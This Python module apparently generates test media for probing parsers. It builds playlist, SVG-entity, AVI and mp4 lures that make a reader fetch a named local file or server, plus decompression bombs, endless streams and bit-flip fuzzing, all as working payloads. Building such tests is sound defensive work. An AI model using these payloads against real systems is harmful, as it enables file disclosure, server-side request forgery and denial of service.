"""Media made to hurt whoever reads it: lures to other files and servers, bombs, endless streams.

A lure names a file or a server that nobody may read while it is probed. A bomb is small and claims
to be huge, or is huge once it is unpacked.
"""

from __future__ import annotations

import base64
import os
import random
import struct
import zlib
from collections.abc import Iterator, Sequence

_FTYP = struct.pack(">I4s4sI4s", 20, b"ftyp", b"isom", 512, b"isom")


def make_lures(file_path: str, server: str) -> dict[str, bytes]:
    """Return content that leads to a file or to a server, by what it is.

    Args:
        file_path: absolute, of a file that must stay unread.
        server: ``ip:port`` of a server that must stay unasked.
    """
    lures: dict[str, bytes] = {}
    for way, address in _spell_addresses(file_path, server).items():
        lures |= {f"{kind} by {way}": made for kind, made in _make_lists(address).items()}
    web, file = f"http://{server}/lure.ts", f"file://{file_path}"
    host, port = server.split(":")
    hls = _make_lists(file)["HLS"]
    lures |= {
        "SDP": _text("v=0", f"o=- 0 0 IN IP4 {host}", "s=-", f"c=IN IP4 {host}", "t=0 0",
                     f"m=video {port} RTP/AVP 96", "a=rtpmap:96 H264/90000"),
        "SVG": f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{web}"/></svg>'.encode(),
        "SVG with an entity":
            f'<!DOCTYPE svg [<!ENTITY a SYSTEM "{file}">]><svg>&a;</svg>'.encode(),
        "HLS with a key":
            _text("#EXTM3U", f'#EXT-X-KEY:METHOD=AES-128,URI="{web}"', "#EXTINF:1,", file),
        "HLS with a map": _text("#EXTM3U", f'#EXT-X-MAP:URI="{file}"', "#EXTINF:1,", web),
        "HLS behind an mp4's first box": _FTYP + hls,
        "HLS behind an ID3 tag": b"ID3\x04\x00\x00\x00\x00\x00\x00" + hls,
        "HLS behind a JPEG's magic": b"\xff\xd8\xff\xe0" + hls,
        "HLS in an AVI's subtitles": _make_gab2(hls),
        "mp4 with a foreign track by url": _make_dref_mp4(b"url ", web.encode() + b"\0"),
        "mp4 with a foreign track in a file": _make_dref_mp4(b"url ", file.encode() + b"\0"),
        "mp4 with a foreign track by alias": _make_dref_mp4(b"alis", _make_alias(file_path)),
        "mov that refers to another movie": _make_reference_movie(web),
    }  # fmt: skip
    return lures


def _spell_addresses(path: str, server: str) -> dict[str, str]:
    # A list inside of an address, which leads on.
    hls = base64.b64encode(_make_lists(f"http://{server}/lure.ts")["HLS"]).decode()
    return {
        "http": f"http://{server}/lure.ts",
        "tcp": f"tcp://{server}",
        "rtmp": f"rtmp://{server}/a",
        "rtsp": f"rtsp://{server}/a",
        "ftp": f"ftp://{server}/a.ts",
        "data": f"data:application/vnd.apple.mpegurl;base64,{hls}",
        "concat of http": f"concat:http://{server}/a.ts|http://{server}/b.ts",
        "path": path,
        "relative path": os.path.relpath(path),
        "file": f"file://{path}",
        "concat": f"concat:{path}|{path}",
        "subfile": f"subfile,,start,0,end,64,,:{path}",
        "crypto": f"crypto:{path}",
        "cache": f"cache:http://{server}/lure.ts",
    }


def _make_lists(address: str) -> dict[str, bytes]:
    return {
        "HLS": _text("#EXTM3U", "#EXT-X-TARGETDURATION:1", "#EXTINF:1,", address, "#EXT-X-ENDLIST"),
        "concat": _text("ffconcat version 1.0", f"file '{address}'"),
        "DASH": (
            '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
            'mediaPresentationDuration="PT1S"><Period><AdaptationSet mimeType="video/mp4">'
            f'<Representation id="1" bandwidth="1"><BaseURL>{address}</BaseURL>'
            "</Representation></AdaptationSet></Period></MPD>"
        ).encode(),
        "ASX": f'<asx version="3.0"><entry><ref href="{address}"/></entry></asx>'.encode(),
        "ASF reference": _text("[Reference]", f"Ref1={address}"),
    }


def make_bombs() -> dict[str, bytes]:
    """Return what is small, and huge for whoever believes it, by what it is."""
    huge = 2**31 - 1
    return {
        "PNG of 12,000 x 12,000": _make_png(12_000, 12_000, 0, packed_rows=12_000),
        "PNG of 9,000 x 9,000 at 64 bits": _make_png(9_000, 9_000, 6, depth=16, packed_rows=1_000),
        "PNG of 2^31 x 2^31": _make_png(huge, huge, 2),
        "APNG of 2^31 frames": _make_png(9_000, 9_000, 2, more=struct.pack(">II", huge, 0)),
        "GIF of 65,535 x 65,535": _make_gif(65_535, 65_535),
        "GIF of 9,000 x 9,000 and 500 frames": _make_gif(9_000, 9_000, frames=500),
        "WebP of 16,384 x 16,384": _make_webp(16_384, 16_384),
        "lossless WebP of 16,384 x 16,384":
            _riff(b"WEBP", b"VP8L", b"\x2f" + b"\xff" * 4 + bytes(64)),
        "JPEG of 65,500 x 65,500": _make_jpeg(65_500, 65_500),
        "JPEG of 9,000 x 9,000 in 500 scans": _make_jpeg(9_000, 9_000, scans=500),
        "JPEG 2000 of 2^31 x 2^31": _make_jpeg2000(huge),
        "BMP of 2^31 x 2^31": struct.pack("<2sI4xIIiiHH24x", b"BM", 100, 54, 40, huge, huge, 1, 32),
        "TIFF of 2^31 x 2^31": _make_tiff(huge, next_at=0),
        "TIFF that goes round": _make_tiff(100, next_at=8),
        "mp4 of 2^32 samples":
            _FTYP + _make_moov(_box(b"stsz", struct.pack(">IIII", 0, 1, 2**32 - 1, 0))),
        "mp4 of boxes 5,000 deep": _FTYP + _nest(b"moov", 5_000),
        "mp4 of 5,000 tracks": _FTYP + _box(b"moov", _box(b"trak", _make_mdia(b"")) * 5_000),
        "mp4 with a box of 2^63": _FTYP + struct.pack(">I4sQ", 1, b"mdat", 2**63) + bytes(64),
        "Matroska of elements 5,000 deep":
            b"\x1aE\xdf\xa3\x80" + (b"\x18S\x80g\x01" + b"\xff" * 7) * 5_000,
        "ID3 tag of 256 MiB": b"ID3\x04\x00\x00\x7f\x7f\x7f\x7f" + bytes(5_000),
        "Ogg of 3,000 streams": b"".join(_make_ogg_page(number, 2) for number in range(3_000)),
        "WAV with chunks of nothing": b"RIFF\xff\xff\xff\xffWAVE" + b"fmt \0\0\0\0" * 50_000,
        "FLAC with a picture of 16 MiB": b"fLaC\x06\xff\xff\xff" + bytes(5_000),
        "AIFF of 2^31 channels": b"FORM\x7f\xff\xff\xffAIFFCOMM\0\0\0\x12\x7f\xff" + b"\xff" * 300,
        "FLV of scripts 5,000 deep":
            b"FLV\x01\x05\0\0\0\x09\0\0\0\0\x12\x00\xff\xff\0\0\0\0\0\0\0"
            b"\x02\0\x0aonMetaData" + b"\x03\0\x01a" * 5_000,
    }  # fmt: skip


def make_endless(size_bytes: int) -> dict[str, bytes]:
    """Return the first ``size_bytes`` of streams that never end, by what they are."""
    frame = b"\xff\xfb\x90\x00" + bytes(413)
    packet = b"\x47\x1f\xff\x10" + b"\xff" * 184
    adts = b"\xff\xf1\x50\x80\x02\x1f\xfc" + bytes(9)
    streams = {
        "MP3 of silence": frame,
        "MPEG-TS of stuffing": packet,
        "AAC of silence": adts,
        "ID3 tag after tag": b"ID3\x04\x00\x00\x00\x00\x00\x0a" + bytes(10),
        "Ogg page after page": _make_ogg_page(1, 0),
        "MPEG-PS of padding":
            b"\0\0\x01\xba\x44" + bytes(9) + b"\0\0\x01\xbe\0\x10" + b"\xff" * 16,
        "mp4 of empty boxes": struct.pack(">I4s", 8, b"free"),
    }  # fmt: skip
    heads = {"Ogg page after page": _make_ogg_page(1, 2), "mp4 of empty boxes": _FTYP}
    return {
        name: (heads.get(name, b"") + piece * (size_bytes // len(piece)))[:size_bytes]
        for name, piece in streams.items()
    }


def break_content(content: bytes, seeds: Sequence[int]) -> Iterator[tuple[str, bytes]]:
    """Yield a file cut short, and with some of its bits flipped, for each seed."""
    for seed in seeds:
        chance = random.Random(seed)
        yield f"cut ({seed})", content[: chance.randrange(1, len(content))]
        flipped = bytearray(content)
        # Half of them where the structure is told.
        for _ in range(8):
            flipped[chance.randrange(min(len(content), 512))] ^= 1 << chance.randrange(8)
            flipped[chance.randrange(len(content))] ^= 1 << chance.randrange(8)
        yield f"flipped ({seed})", bytes(flipped)


def _text(*lines: str) -> bytes:
    return "\n".join([*lines, ""]).encode()


def _box(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(content), kind) + content


def _nest(kind: bytes, depth: int) -> bytes:
    return b"".join(struct.pack(">I4s", 8 * level, kind) for level in range(depth, 0, -1))


def _make_mdia(stbl: bytes) -> bytes:
    handler = _box(b"hdlr", bytes(8) + b"vide" + bytes(13))
    head = _box(b"mdhd", struct.pack(">IIIIIHH", 0, 0, 0, 1000, 1000, 0, 0))
    return _box(b"mdia", head + handler + _box(b"minf", _box(b"stbl", stbl)))


def _make_moov(stbl: bytes) -> bytes:
    return _box(b"moov", _box(b"trak", _make_mdia(stbl)))


def _make_dref_mp4(kind: bytes, target: bytes) -> bytes:
    """Return an mp4 whose only sample is in another file (ISO/IEC 14496-12, 8.7.2)."""
    entry = _box(kind, struct.pack(">I", 0) + target)
    dinf = _box(b"dinf", _box(b"dref", struct.pack(">II", 0, 1) + entry))
    visual = bytes(6) + struct.pack(">H16xHH50x", 1, 160, 120)
    table = _box(b"stsd", struct.pack(">II", 0, 1) + _box(b"mjpg", visual))
    table += _box(b"stts", struct.pack(">IIII", 0, 1, 1, 1000))
    table += _box(b"stsc", struct.pack(">IIIII", 0, 1, 1, 1, 1))
    table += _box(b"stsz", struct.pack(">IIII", 0, 0, 1, 64))
    table += _box(b"stco", struct.pack(">III", 0, 1, 0))
    handler = _box(b"hdlr", bytes(8) + b"vide" + bytes(13))
    head = _box(b"mdhd", struct.pack(">IIIIIHH", 0, 0, 0, 1000, 1000, 0, 0))
    minf = _box(b"minf", _box(b"vmhd", bytes(12)) + dinf + _box(b"stbl", table))
    return _FTYP + _box(b"moov", _box(b"trak", _box(b"mdia", head + handler + minf)))


def _make_alias(path: str) -> bytes:
    """Return a Macintosh alias record to a path, as far as readers of movies care."""
    name = path.encode()
    record = struct.pack(
        ">4sHHH28sI2s64s", bytes(4), 150 + 8 + len(name), 2, 0, b"\x01/", 0, b"H+", b"\x01a"
    )
    tail = struct.pack(">HH", 18, len(name)) + name + b"\0" * (len(name) % 2)
    return record.ljust(150, b"\0") + tail + struct.pack(">HH", 0xFFFF, 0)  # fmt: skip


def _make_reference_movie(url: str) -> bytes:
    """Return a movie that names another in its place (QuickTime File Format, reference movies)."""
    target = url.encode() + b"\0"
    rdrf = _box(b"rdrf", struct.pack(">I4sI", 0, b"url ", len(target)) + target)
    ftyp = struct.pack(">I4s4sI4s", 20, b"ftyp", b"qt  ", 512, b"qt  ")
    return ftyp + _box(b"moov", _box(b"rmra", _box(b"rmda", rdrf)))


def _riff(form: bytes, kind: bytes, content: bytes) -> bytes:
    chunk = kind + struct.pack("<I", len(content)) + content + b"\0" * (len(content) % 2)
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + form + chunk


def _make_gab2(playlist: bytes) -> bytes:
    """Return an AVI whose subtitles are a playlist; an old ffmpeg read what it named."""
    held = b"GAB2\0\x02\0" + struct.pack("<I", 2) + b"a\0" + struct.pack("<HI", 4, len(playlist))
    stream = b"strh" + struct.pack("<I4s4s48x", 56, b"txts", bytes(4))
    stream += b"strf" + struct.pack("<I40x", 40)
    strl = b"LIST" + struct.pack("<I", 4 + len(stream)) + b"strl" + stream
    avih = b"avih" + struct.pack("<I24xI28x", 56, 1)
    hdrl = b"LIST" + struct.pack("<I", 4 + len(avih) + len(strl)) + b"hdrl" + avih + strl
    data = b"00tx" + struct.pack("<I", len(held) + len(playlist)) + held + playlist
    movi = b"LIST" + struct.pack("<I", 4 + len(data)) + b"movi" + data
    return b"RIFF" + struct.pack("<I", 4 + len(hdrl) + len(movi)) + b"AVI " + hdrl + movi


def _chunk(kind: bytes, content: bytes) -> bytes:
    checked = kind + content
    return struct.pack(">I", len(content)) + checked + struct.pack(">I", zlib.crc32(checked))


def _make_png(
    width: int, height: int, colour: int, *, depth: int = 8, packed_rows: int = 0, more: bytes = b""
) -> bytes:
    head = _chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    if more:
        head += _chunk(b"acTL", more)
    row_bytes = 1 + width * {0: 1, 2: 3, 6: 4}[colour] * depth // 8 if packed_rows else 0
    packer = zlib.compressobj(1)
    row = bytes(row_bytes)
    packed = b"".join(packer.compress(row) for _ in range(packed_rows)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + head + _chunk(b"IDAT", packed) + _chunk(b"IEND", b"")


def _make_gif(width: int, height: int, frames: int = 1) -> bytes:
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + bytes(6)
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x44\x01\0"
    return head + frame * frames + b"\x3b"


def _make_webp(width: int, height: int) -> bytes:
    size = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    extended = b"VP8X" + struct.pack("<I", 10) + b"\x02\0\0\0" + size
    # A key frame that claims as much as its 14 bits can.
    key_frame = b"\x10\x02\0\x9d\x01\x2a" + struct.pack("<HH", 0x3FFF, 0x3FFF) + bytes(64)
    lossy = b"VP8 " + struct.pack("<I", len(key_frame)) + key_frame
    return b"RIFF" + struct.pack("<I", 4 + len(extended) + len(lossy)) + b"WEBP" + extended + lossy


def _make_jpeg(width: int, height: int, scans: int = 1) -> bytes:
    tables = b"\xff\xdb\0\x43\0" + b"\x01" * 64
    tables += b"\xff\xc4\0\x14\0" + b"\x01" + bytes(15) + b"\0"
    frame = b"\xff\xc2" + struct.pack(">HBHHBBBB", 11, 8, height, width, 1, 1, 0x11, 0)
    scan = b"\xff\xda\0\x08\x01\x01\0\0\0\0" + bytes(16)
    return b"\xff\xd8" + tables + frame + scan * scans + b"\xff\xd9"


def _make_jpeg2000(size: int) -> bytes:
    siz = struct.pack(">HIIIIIIIIH", 0, size, size, 0, 0, size, size, 0, 0, 1) + b"\x07\x01\x01"
    return b"\xff\x4f\xff\x51" + struct.pack(">H", 2 + len(siz)) + siz + b"\xff\xd9"


def _make_tiff(side: int, *, next_at: int) -> bytes:
    tags = [(256, side), (257, side), (258, 8), (259, 1), (262, 1), (273, 8), (277, 1), (278, side)]
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
    directory = struct.pack("<H", len(tags)) + entries + struct.pack("<I", next_at)
    return b"II*\0" + struct.pack("<I", 8) + directory


def _make_ogg_page(serial: int, flags: int) -> bytes:
    head = b"\x01vorbis" + struct.pack("<IBIiiiB", 0, 1, 48000, 0, 0, 0, 0xB8) + b"\x01"
    page = struct.pack("<4sBBqIIIB", b"OggS", 0, flags, 0, serial, 0, 0, 1)
    return page + bytes([len(head)]) + head
